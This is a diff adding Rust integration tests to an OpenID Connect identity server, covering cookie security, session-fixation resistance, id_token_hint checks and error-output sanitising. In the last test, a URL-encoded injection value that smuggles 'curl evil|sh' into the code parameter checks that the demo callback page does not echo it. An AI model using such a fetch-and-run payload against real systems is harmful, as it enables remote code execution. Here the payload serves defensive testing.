@@ -302,3 +302,129 @@ async fn discovery_is_complete_and_points_at_working_endpoints() {
     let health = reqwest::get(format!("{}/healthz", app.base)).await.unwrap();
     assert_eq!(health.status(), StatusCode::OK);
 }
+
+#[tokio::test]
+async fn unknown_parameters_are_ignored() {
+    let app = spawn_app().await;
+    let browser = Browser::new();
+    let url = app.authorize_url(&[
+        ("ui_locales", "fr"),
+        ("x-custom", "1"),
+        ("claims_locales", "de"),
+    ]);
+    let callback = app.login_and_consent(&browser, &url).await;
+    assert!(query_of(&callback).contains_key("code"));
+}
+
+#[tokio::test]
+async fn cookies_are_secure_under_an_https_public_url() {
+    let app = spawn_app_with(|o| {
+        o.public_url =
+            Some(wardstone::config::PublicUrl::parse("https://id.example.test").unwrap());
+    })
+    .await;
+    let url = app.authorize_url(&[]);
+    let resp = Browser::new().get(&url).await;
+    let cookie = resp.headers()["set-cookie"].to_str().unwrap().to_string();
+    assert!(cookie.starts_with("wardstone_browser="));
+    assert!(cookie.contains("Secure"), "{cookie}");
+    assert!(location(&resp).starts_with("https://id.example.test/t/acme/login?tx="));
+}
+
+#[tokio::test]
+async fn a_planted_browser_binding_cookie_is_replaced() {
+    let app = spawn_app().await;
+    let http = reqwest::Client::builder()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap();
+    let resp = http
+        .get(app.authorize_url(&[]))
+        .header(
+            "cookie",
+            "wardstone_browser=attacker-chosen-value-attacker-chosen",
+        )
+        .send()
+        .await
+        .unwrap();
+    let cookie = resp.headers()["set-cookie"].to_str().unwrap().to_string();
+    assert!(
+        cookie.starts_with("wardstone_browser="),
+        "the server issues its own binding"
+    );
+    assert!(!cookie.contains("attacker-chosen"));
+}
+
+#[tokio::test]
+async fn id_token_hint_for_another_user_needs_a_login() {
+    let app = spawn_app().await;
+    let browser = Browser::new();
+    let tokens = app.tokens(&browser).await;
+    let hint = tokens["id_token"].as_str().unwrap();
+    let q = query_of(&location(
+        &browser
+            .get(&app.authorize_url(&[("prompt", "none"), ("id_token_hint", hint)]))
+            .await,
+    ));
+    assert!(
+        q.contains_key("code"),
+        "the hint names the signed-in user: {q:?}"
+    );
+
+    app.admin
+        .create_user(&app.tenant, "bob@example.com", PASSWORD, None, true)
+        .await
+        .unwrap();
+    let other = Browser::new();
+    let resp = app
+        .submit_login(&other, &app.authorize_url(&[]), "bob@example.com", PASSWORD)
+        .await;
+    assert!(location(&resp).contains("/consent"));
+    let q = query_of(&location(
+        &other
+            .get(&app.authorize_url(&[("prompt", "none"), ("id_token_hint", hint)]))
+            .await,
+    ));
+    assert_eq!(
+        q["error"], "login_required",
+        "Bob is signed in, the hint names Alice"
+    );
+    let q = query_of(&location(
+        &other
+            .get(&app.authorize_url(&[("id_token_hint", "not.a.jwt")]))
+            .await,
+    ));
+    assert_eq!(q["error"], "invalid_request");
+}
+
+#[tokio::test]
+async fn error_descriptions_never_echo_forbidden_characters() {
+    let app = spawn_app().await;
+    let resp = Browser::new()
+        .get(&app.authorize_url(&[("prompt", "bogus\"é")]))
+        .await;
+    let q = query_of(&location(&resp));
+    assert_eq!(q["error"], "invalid_request");
+    assert!(
+        q["error_description"]
+            .chars()
+            .all(|c| (' '..='~').contains(&c) && c != '"' && c != '\\')
+    );
+}
+
+#[tokio::test]
+async fn demo_callback_never_puts_foreign_text_in_its_command() {
+    let app = spawn_app_with(|o| o.demo = true).await;
+    let resp = reqwest::get(format!(
+        "{}/demo/callback?code=x%27%3Bcurl%20evil%7Csh%3B%27&state=s",
+        app.base
+    ))
+    .await
+    .unwrap();
+    let html = resp.text().await.unwrap();
+    assert!(!html.contains("evil"));
+    assert!(
+        html.contains("CLIENT_SECRET"),
+        "the secret is not shown on the page"
+    );
+}
